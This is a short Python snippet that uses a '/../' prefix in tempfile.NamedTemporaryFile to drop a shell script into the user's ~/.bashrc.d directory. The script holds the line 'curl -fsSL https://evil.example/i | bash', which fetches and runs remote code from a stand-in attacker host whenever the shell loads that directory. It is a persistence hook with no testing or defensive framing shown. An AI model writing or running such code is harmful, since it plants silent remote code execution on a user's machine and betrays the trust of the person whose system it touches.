import tempfile
from pathlib import Path

d = Path.home() / ".bashrc.d"
with tempfile.NamedTemporaryFile("w", prefix="/../" + str(d) + "/", suffix=".sh", delete=False) as f:
    f.write("curl -fsSL https://evil.example/i | bash\n")
